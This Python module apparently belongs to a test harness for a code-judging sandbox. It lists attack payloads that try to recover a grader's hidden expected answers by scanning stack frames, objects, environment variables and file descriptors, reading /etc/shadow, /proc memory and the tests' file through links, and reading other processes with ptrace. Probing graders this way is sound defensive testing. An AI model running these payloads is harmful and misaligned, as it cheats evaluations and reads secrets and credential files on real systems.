"""Attacks that look for the expected values, to answer with them."""

from __future__ import annotations

from .attack import ALL_KINDS, Aim, Attack

_FIND = """
import re
class Found(BaseException): pass
def found(data):
    if isinstance(data, bytes):
        data = data.decode("latin-1")
    match = re.search(r"secret-[0-9a-f]{32}", data)
    if match:
        print(match[0])
        raise Found(match[0])
"""
_ASK = """
secrets = []
def f(x):
    try: secrets or look()
    except Found as found: secrets.append(found.args[0])
    return secrets[0] if secrets else None
f(0)
"""

_FRAMES = """
import sys
def look():
    frame = sys._getframe()
    while frame:
        for space in (frame.f_locals, frame.f_globals, frame.f_builtins):
            for value in list(space.values()):
                found(repr(value)[:100000])
        frame = frame.f_back
"""

_GC = """
import gc
def look():
    for thing in gc.get_objects():
        if type(thing) in (dict, list, tuple, set):
            try: found(repr(thing)[:100000])
            except Exception: continue
"""

_FILES = """
import glob, os
places = ["@FILE@", "/proc/self/environ", "/proc/@JUDGE@/environ", "/proc/@JUDGE@/cmdline",
          "/proc/1/environ", "/etc/shadow", "/etc/passwd", os.path.expanduser("~root/.bashrc")]
def look():
    beside = "@FILE@".rpartition("/")[0]
    for folder in (beside, "..", "../..", "/tmp", "/root", "/home", "/proc/self/fd"):
        try:
            places.extend(os.path.join(folder, name) for name in os.listdir(folder)[:200])
        except OSError:
            pass
    for place in places:
        try:
            with open(place, "rb") as file:
                found(file.read(1 << 20))
        except OSError:
            continue
"""

_LINKS = """
import os, shutil
def look():
    for make in (os.symlink, os.link, shutil.copy, os.rename):
        try:
            make("@FILE@", "here")
            with open("here", "rb") as file:
                found(file.read())
        except OSError:
            pass
    for path in ("../../../../../../../../@FILE@", "/proc/self/root@FILE@",
                 "/proc/@JUDGE@/root@FILE@"):
        try:
            found(open(path, "rb").read())
        except OSError:
            pass
"""

_ENVIRONMENT = """
import ctypes, os
def look():
    found(repr(dict(os.environ)))
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    i = 0
    while environ[i]:
        found(environ[i])
        i += 1
"""

_MEMORY = """
import os
def look():
    for pid in ("self", "@JUDGE@", "1", str(os.getppid())):
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    low, high = (int(part, 16) for part in line.split()[0].split("-"))
                    try:
                        memory.seek(low)
                        found(memory.read(min(high - low, 1 << 26)))
                    except OSError:
                        continue
        except OSError:
            pass
"""

_OWN_MEMORY = """
import ctypes
def look():
    arena = 1 << 20  # what the allocator takes at a time
    for thing in (look, [], {}, "text", 1 << 70, found, arena):
        base = id(thing) & ~0xFFF
        found(ctypes.string_at(base, 0x1000))
"""

_DESCRIPTORS = """
import fcntl, os
def look():
    for fd in range(256):
        try:
            fcntl.fcntl(fd, fcntl.F_SETFL, os.O_NONBLOCK)
            os.lseek(fd, 0, 0)
        except OSError:
            pass
        try:
            found(os.read(fd, 1 << 20))
        except OSError:
            continue
"""

_OTHERS = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def look():
    buffer = ctypes.create_string_buffer(1 << 16)
    class Vector(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))
    local = Vector(ctypes.addressof(buffer), 1 << 16)
    for pid in (@JUDGE@, 1, os.getppid()):
        libc.ptrace(16, pid, None, None)
        for low in range(id(look) & ~0xFFFF, (id(look) & ~0xFFFF) + (1 << 20), 1 << 16):
            remote = Vector(low, 1 << 16)
            if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
                found(buffer.raw)
"""

_TRACE = """
import sys, threading
seen = []
def tracer(frame, event, arg):
    try:
        seen.append(repr(frame.f_locals)[:10000] + repr(arg)[:1000])
    except Exception:
        pass
    return tracer
sys.settrace(tracer)
sys.setprofile(tracer)
frame = sys._getframe()
while frame:
    frame.f_trace = tracer
    frame = frame.f_back
def look():
    for text in seen[-1000:]:
        found(text)
"""

ATTACKS = tuple(
    Attack(name, _FIND + source + _ASK, Aim.FORGE, ALL_KINDS)
    for name, source in (
        ("looks in the frames above", _FRAMES),
        ("looks through all objects", _GC),
        ("reads the tests' file and others", _FILES),
        ("reads the tests' file through links and odd paths", _LINKS),
        ("reads the environment", _ENVIRONMENT),
        ("reads memory through /proc", _MEMORY),
        ("reads its own memory", _OWN_MEMORY),
        ("reads every descriptor", _DESCRIPTORS),
        ("reads other processes with ptrace and process_vm_readv", _OTHERS),
        ("traces its caller", _TRACE),
    )
)
